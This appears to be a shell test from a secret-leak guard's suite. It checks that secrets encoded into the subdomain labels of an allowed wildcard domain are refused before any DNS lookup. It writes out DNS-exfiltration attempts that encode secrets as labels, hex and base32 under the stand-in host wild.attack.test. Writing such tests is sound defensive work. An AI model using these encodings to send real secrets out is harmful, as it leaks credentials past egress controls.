# A secret in the labels of an allowed wildcard's subdomain: refused before anything is looked up.
need curl python3
labels() { tr -c 'A-Za-z0-9-' - | sed 's/-$//' | fold -w 50 | sed 's/^-*//; s/-*$//' | paste -sd.; }
ask() {
	with=$1
	name=$2
	host=$3.wild.attack.test
	$with "$name" "https://$host:$PORT/"
}
ask harmless harmless pictures
for secret in $secrets; do
	case $secret in shape-generic) continue ;; esac
	ask send "labels $secret" "$(text $secret | labels)"
	ask send "hex $secret" "$(text $secret | od -An -v -tx1 | tr -d ' \n' | fold -w 60 | paste -sd.)"
	ask send "base32 $secret" "$(text $secret | base32 -w0 | tr -d = | fold -w 60 | paste -sd.)"
done
